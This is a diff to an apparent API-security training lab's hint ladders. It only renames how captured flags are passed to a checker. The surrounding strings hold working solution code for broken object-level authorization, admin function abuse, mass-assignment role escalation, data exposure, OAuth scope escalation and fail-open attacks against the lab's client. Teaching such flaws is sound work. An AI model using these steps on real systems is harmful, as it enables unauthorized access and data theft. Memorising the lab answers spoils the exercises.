@@ -24,7 +24,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         "3. The 200 answer is eddie's invoice; its flag field holds the bola flag.\n"
         "```python\n" + _AS_VERA + 'stolen = lab.client.get("/invoices/3", headers=bearer).json()\n'
         'print(stolen["owner"], stolen["amount_cents"])\n'
-        'lab.check_flag("bola", stolen["flag"])\n'
+        'flag_bola = stolen["flag"]\nlab.check_flag("bola", flag_bola)\n'
         "```",
     ),
     "bfla": (
@@ -41,7 +41,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         + _AS_VERA
         + 'gone = lab.client.delete("/admin/users/5", headers=bearer).json()\n'
         'print(gone["deleted"])\n'
-        'lab.check_flag("bfla", gone["flag"])\n'
+        'flag_bfla = gone["flag"]\nlab.check_flag("bfla", flag_bfla)\n'
         "```",
     ),
     "mass-assignment": (
@@ -60,7 +60,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         'promoted = lab.client.patch("/me", headers=bearer, json={"role": "admin"}).json()\n'
         'print(promoted["role"])\n'
         'lab.client.patch("/me", headers=bearer, json={"role": "editor"})\n'
-        'lab.check_flag("mass-assignment", promoted["flag"])\n'
+        'flag_mass = promoted["flag"]\nlab.check_flag("mass-assignment", flag_mass)\n'
         "```",
     ),
     "data-exposure": (
@@ -75,7 +75,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         "that shows it to vera carries the data-exposure flag.\n"
         "```python\n" + _AS_VERA + 'mine = lab.client.get("/invoices/1", headers=bearer).json()\n'
         'print(mine["internal_note"])\n'
-        'lab.check_flag("data-exposure", mine["flag"])\n'
+        'flag_exposure = mine["flag"]\nlab.check_flag("data-exposure", flag_exposure)\n'
         "```",
     ),
     "scope-escalation": (
@@ -99,7 +99,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         "}\n"
         'granted = lab.client.post("/oauth/token", data=form).json()\n'
         'print(granted["scope"])\n'
-        'lab.check_flag("scope-escalation", granted["flag"])\n'
+        'flag_scope = granted["flag"]\nlab.check_flag("scope-escalation", flag_scope)\n'
         "```",
     ),
     "fail-open": (
@@ -115,7 +115,7 @@ LADDERS: dict[str, tuple[str, str, str]] = {
         "```python\n" + _AS_VERA + 'down = lab.outage("permissions")\n'
         "with down:\n"
         '    during = lab.client.get("/invoices/3", headers=bearer).json()\n'
-        'lab.check_flag("fail-open", during["flag"])\n'
+        'flag_outage = during["flag"]\nlab.check_flag("fail-open", flag_outage)\n'
         "```",
     ),
 }
